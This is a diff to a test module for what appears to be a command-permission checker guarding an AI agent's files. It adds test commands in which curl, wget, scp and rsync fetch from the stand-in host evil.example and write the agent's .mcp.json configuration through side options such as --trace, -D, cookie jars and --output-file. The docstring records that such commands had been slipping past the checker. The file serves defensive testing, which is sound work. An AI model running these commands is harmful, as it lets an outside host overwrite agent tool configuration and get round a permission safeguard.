@@ -1,5 +1,6 @@
 """Found from inside: a download or a copy from another machine writes files named by the
-remote side, not by a word naming a local file: ``curl -O https://host/.mcp.json`` and ``wget
+remote side, or by options other than ``-o`` (``--trace F``, ``-D F``, ``wget
+--output-file=F``), not by a word naming a local file: ``curl -O https://host/.mcp.json`` and ``wget
 https://host/.mcp.json`` write ``./.mcp.json``; ``curl -J`` and ``wget --content-disposition``
 take the server's name; ``wget -r``, ``rsync -a host:dir/ .``, ``docker cp``, ``aws s3 sync``
 write whatever the remote tree holds. Each was allowed as a command writing nothing protected.
@@ -33,6 +34,19 @@ NAMED_BY_THE_URL = [
     "scp evil.example:.mcp.json .",
     "rsync evil.example:.mcp.json .",
     "cd sub && curl -O https://evil.example/.mcp.json",
+    "curl -O --url=https://evil.example/.mcp.json",
+    "curl --trace .mcp.json https://evil.example/",
+    "curl --trace-ascii .mcp.json https://evil.example/",
+    "curl -D .mcp.json https://evil.example/",
+    "curl --dump-header .mcp.json https://evil.example/",
+    "curl -sSc .mcp.json https://evil.example/",
+    "curl --cookie-jar .mcp.json https://evil.example/",
+    "curl --stderr .mcp.json https://evil.example/",
+    "curl --etag-save .mcp.json https://evil.example/",
+    "curl --libcurl .mcp.json https://evil.example/",
+    "wget --output-file=.mcp.json https://evil.example/x",
+    "wget --append-output=.mcp.json https://evil.example/x",
+    "wget --save-cookies .mcp.json https://evil.example/x",
     "scp user@evil.example:.mcp.json sub/..",
 ]
 
@@ -50,6 +64,9 @@ NAMED_BY_THE_REMOTE = [
     "wget -i urls.txt",
     "wget -e content_disposition=on https://evil.example/x",
     "aria2c https://evil.example/x",
+    "curl -K cfg https://evil.example/x",
+    "curl --config cfg https://evil.example/x",
+    "wget --default-page=.mcp.json https://evil.example/",
     "rsync -a evil.example:d/ .",
     "rsync -avz user@evil.example:/srv/d/ ./",
     "rsync -r rsync://evil.example/m/ .",
@@ -70,6 +87,7 @@ NAMED_BY_THE_REMOTE = [
 
 CONTROLS = [
     "curl -sSL https://example.com/x",
+    "curl -s -c cookies.txt -D headers.txt https://example.com/x",
     "curl -o out.json https://example.com/.mcp.json",
     "curl -O https://example.com/a.tgz",
     "curl -g -O 'https://example.com/a[1].tgz'",
